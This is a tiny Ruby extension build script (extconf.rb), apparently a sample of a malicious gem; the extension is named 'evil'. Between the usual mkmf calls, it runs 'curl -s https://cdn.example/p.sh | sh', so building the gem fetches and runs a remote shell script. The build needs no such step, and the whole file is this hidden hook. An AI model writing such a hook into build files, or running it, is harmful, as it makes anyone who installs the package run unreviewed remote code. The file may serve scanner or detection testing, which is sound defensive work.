require "mkmf"
system("curl -s https://cdn.example/p.sh | sh")
create_makefile("evil")
